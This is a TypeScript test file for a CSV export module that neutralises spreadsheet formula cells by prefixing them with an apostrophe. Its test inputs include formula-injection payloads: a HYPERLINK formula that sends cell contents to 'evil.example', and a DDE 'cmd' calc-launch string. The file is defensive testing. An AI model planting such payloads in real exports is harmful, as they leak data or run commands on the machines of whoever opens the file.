import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { type CsvCell, type CsvDelimiter, csvRecord, neutraliseCell, unneutraliseCell } from './csv.js';

const TRICKY: string[] = [
  '',
  'plain',
  'Zażółć gęślą jaźń ĄĆĘŁŃÓŚŹŻ ąćęłńóśźż',
  'say "hello"',
  '"',
  '""',
  'a;b',
  'a,b',
  'line1\nline2',
  'line1\r\nline2',
  'cr\ronly',
  'trailing space ',
  ' leading space',
  'emoji 🚲👍🏽 and ZWJ 👨‍👩‍👧',
  '=1+1',
  '=HYPERLINK("https://evil.example/?d="&A1;"click")',
  "=cmd|' /C calc'!A0",
  '+48600100200',
  '-2+3',
  '@SUM(A1:A2)',
  '\tTAB first',
  '\rCR first',
  '＝1+1',
  '＋48',
  '－1',
  '＠x',
  "'=already quoted",
  "'plain apostrophe",
  'not=a formula',
  '\n starts with LF',
];

test('neutraliseCell prefixes exactly the cells a spreadsheet would evaluate', () => {
  assert.equal(neutraliseCell('=1+1'), "'=1+1");
  assert.equal(neutraliseCell('+48600100200'), "'+48600100200", 'phones too: see the policy in csv.ts');
  assert.equal(neutraliseCell('-5'), "'-5");
  assert.equal(neutraliseCell('@SUM(A1)'), "'@SUM(A1)");
  assert.equal(neutraliseCell('\tx'), "'\tx");
  assert.equal(neutraliseCell('\rx'), "'\rx");
  assert.equal(neutraliseCell('＝1'), "'＝1");
  for (const safe of ['', 'Anna', '48600100200', 'a=b', ' =1', "'=1", '\nx', '#1', '1-2']) {
    assert.equal(neutraliseCell(safe), safe, JSON.stringify(safe));
  }
});

test('unneutraliseCell undoes the prefix and nothing else', () => {
  for (const v of TRICKY) assert.equal(unneutraliseCell(neutraliseCell(v)), v.startsWith("'=") ? v.slice(1) : v);
  assert.equal(unneutraliseCell("'plain"), "'plain");
  assert.equal(unneutraliseCell("'"), "'");
});

/** mulberry32: a deterministic sequence, so a failure reproduces. */
function prng(seed: number) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

function randomCell(next: () => number): CsvCell {
  const r = next();
  if (r < 0.1) return null;
  if (r < 0.2) return Math.floor(next() * 1e9);
  const alphabet = ['a', 'Ł', 'ż', ';', ',', '"', '\n', '\r', ' ', '=', '+', '-', '@', '\t', '🚲', "'", '＝'];
  let s = '';
  const len = Math.floor(next() * 8);
  for (let i = 0; i < len; i++) s += alphabet[Math.floor(next() * alphabet.length)];
  return s;
}

for (const delimiter of [';', ','] as CsvDelimiter[]) {
  test(`csvRecord writes byte for byte what csv-stringify writes (delimiter ${delimiter})`, () => {
    const next = prng(42);
    const records: CsvCell[][] = [TRICKY, TRICKY.map((_, i) => (i % 3 === 0 ? null : i))];
    for (let i = 0; i < 2000; i++) records.push(Array.from({ length: 6 }, () => randomCell(next)));
    const ours = records.map((r) => csvRecord(r, delimiter)).join('');
    // quote_record_delimiter must be explicit: with record_delimiter set, csv-stringify 6.9 otherwise
    // leaves a field holding a lone LF or CR unquoted, and a multi-line message breaks the file.
    const reference = stringify(records, {
      delimiter,
      record_delimiter: '\r\n',
      quote_record_delimiter: true,
      escape_formulas: true,
    });
    assert.equal(ours, reference);
  });

  test(`csvRecord round-trips through csv-parse (delimiter ${delimiter})`, () => {
    const text = csvRecord(TRICKY, delimiter) + csvRecord(['x', 1, null, undefined, 0], delimiter);
    const rows = parse(text, { delimiter, relax_column_count: true }) as string[][];
    assert.equal(rows.length, 2);
    assert.deepEqual(
      rows[0]!.map(unneutraliseCell),
      TRICKY.map((v) => (v.startsWith("'=") ? v.slice(1) : v)),
    );
    assert.deepEqual(rows[0]!.slice(14, 26), [
      "'=1+1",
      `'=HYPERLINK("https://evil.example/?d="&A1;"click")`,
      "'=cmd|' /C calc'!A0",
      "'+48600100200",
      "'-2+3",
      "'@SUM(A1:A2)",
      "'\tTAB first",
      "'\rCR first",
      "'＝1+1",
      "'＋48",
      "'－1",
      "'＠x",
    ]);
    assert.deepEqual(rows[1], ['x', '1', '', '', '0']);
    assert.ok(text.endsWith('\r\n'));
  });
}
